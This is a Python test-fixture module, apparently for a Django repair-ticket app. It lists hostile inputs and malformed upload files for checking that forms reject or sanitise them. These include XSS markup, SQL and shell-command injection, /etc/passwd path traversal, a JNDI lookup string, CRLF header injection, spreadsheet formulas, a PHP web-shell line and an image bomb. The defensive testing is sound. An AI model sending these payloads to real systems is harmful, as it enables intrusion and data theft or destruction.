"""What people, scanners and attackers type and send: 69 strings and 24 files."""

from functools import cache

from tests import factories_files as build

MARKUP = [
    "<script>xss()</script>",
    "</textarea><script>xss()</script>",
    "</title><script>xss()</script>",
    "</select><script>xss()</script>",
    "<img src=x onerror=xss()>",
    '"><img src=x onerror=xss()>',
    "'><svg/onload=xss()>",
    "<svg><script>xss()</script></svg>",
    "' onmouseover='xss()",
    '" onfocus="xss()" autofocus="',
    "` onclick=`xss()",
    " onpointerenter=xss() ",
    "<iframe src=javascript:xss()>",
    "<iframe srcdoc='<script>xss()</script>'>",
    "<object data=data:text/html,xss>",
    "<embed src=//x.example>",
    "<base href=//x.example/>",
    "<meta http-equiv=refresh content=0;url=//x>",
    "<link rel=stylesheet href=//x.example>",
    "<style>*{display:none}</style>",
    "<form action=//x.example><input name=a>",
    "<a href=javascript:xss()>维修</a>",
    "[维修](javascript:xss())",
    "javascript:xss()//",
    "data:text/html,<script>xss()</script>",
    "<div hx-get=/logout/ hx-trigger=load>",
    "<b style=position:fixed>漏水",
    "<!--><script>xss()</script>-->",
    "<![CDATA[<script>xss()</script>]]>",
    "&lt;script&gt;xss()&lt;/script&gt;",
    "<ScRiPt\t>xss()</sCrIpT >",
    "＜script＞xss()＜/script＞",
    "<math><mi//xlink:href='javascript:xss()'>",
    "<details open ontoggle=xss()>",
]
CODE = [
    "{{ settings.SECRET_KEY }}",
    "{% csrf_token %}{# 注 #}",
    "{业主} {0} {__class__}",
    "%s %(name)s %d %n",
    "${jndi:ldap://x.example/a}",
    "'; DROP TABLE tickets_ticket; --",
    "' OR '1'='1",
    "1; SELECT pg_sleep(9)",
    "%' ESCAPE '!' _ \\%",
    "$$; COPY x TO PROGRAM 'id'; $$",
    "`id` $(id) | cat /etc/passwd",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "漏水\r\nSet-Cookie: a=b",
    "漏水\r\n\r\n<html>",
    "+ADw-script+AD4-",
    "(?:a+)+$",
    "null",
    "[object Object]",
]
FORMULAS = ['=HYPERLINK("http://x","a")', "+1+1", "-2+3|cmd", "@SUM(1)", "＝1+1", "\t=1+1"]
LETTERS = [
    "𠮷野家👨‍👩‍👧🏠",
    "\u202e水漏\u202d\u2066",
    "漏\u200b水\ufeff\u2028\u2029",
    "漏" + "\u0301" * 20,
    "漏\x07水\x1b[31m",
]
# Each of these is a value of its own: together with others they would only prove the first refusal.
ALONE = [
    "漏\x00水",
    "漏\ud83d水",
    "   \u3000 ",
    "漏" * 10_000,
    "9" * 400,
]
SHORT = [*MARKUP, *CODE, *FORMULAS, *LETTERS]


@cache
def packed(length: int) -> list[str]:
    """All short strings in as few values as fit a field; a formula begins its own."""
    values: list[str] = []
    for text in SHORT:
        if values and text not in FORMULAS and len(values[-1]) + len(text) < length:
            values[-1] += f" {text}"
        else:
            values.append(text)
    return values


def together() -> list[str]:
    """For forms that refuse anyway: everything short at once, then what must stand alone."""
    return [" ".join(SHORT), "漏\x00水", "漏" * 10_000 + "\ud83d", "9" * 400]


PNG, JPG = build.picture("png"), build.picture()
GIF = (
    b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\x04\0\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;"
)
# Whatever of these is kept must come out again without this.
PAYLOAD = b"<script>xss()</script>"
# A name, and what is in it.
FILES = {
    "program": ("漏水.jpg", build.EXE),
    "drawing": ("漏水.svg", build.SVG),
    "drawing named as picture": ("漏水.png", build.SVG),
    "page": ("漏水.jpg", build.HTML),
    "bomb": ("漏水.png", build.huge_png(30_000, 30_000)),
    "half a picture": ("漏水.jpg", JPG[: len(JPG) // 2]),
    "begun picture": ("漏水.jpg", b"\xff\xd8\xff\xe0\0\x10JFIF"),
    "gif and zip": ("漏水.gif", GIF + build.ZIP),
    "gif and script": ("漏水.jpg", b"GIF89a/*" + PAYLOAD + b"*/=1;"),
    "picture and zip": ("漏水.jpg", JPG + PAYLOAD + build.ZIP),
    "picture and page": ("漏水.png", PNG + PAYLOAD),
    "moving picture": ("漏水.webp", build.moving_picture("webp")),
    "video without its first box": ("漏水.mp4", build.video()[20:]),
    "half a video": ("漏水.mp4", build.video()[:400]),
    "archive": ("漏水.xlsx", build.ZIP),
    "document": ("漏水.pdf", build.PDF.replace(b"1 0 obj", b"1 0 obj" + PAYLOAD)),
    "office macro": ("漏水.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
    "empty": ("漏水.jpg", b""),
    "one byte": ("漏水.jpg", b"\xff"),
    "text": ("../../漏水.txt", b"hello"),
    "php": ("漏水.php.jpg", b"<?php system($_GET[0]); ?>"),
    "tiff": ("漏水.jpg", b"II*\0\x08\0\0\0" + bytes(60)),
    "fits": ("漏水.jpg", b"SIMPLE  =                    T" + b" " * 2850),
    "name": ('"><img src=x onerror=xss()>\r\n漏水\u202egpj.jpg', JPG),
}
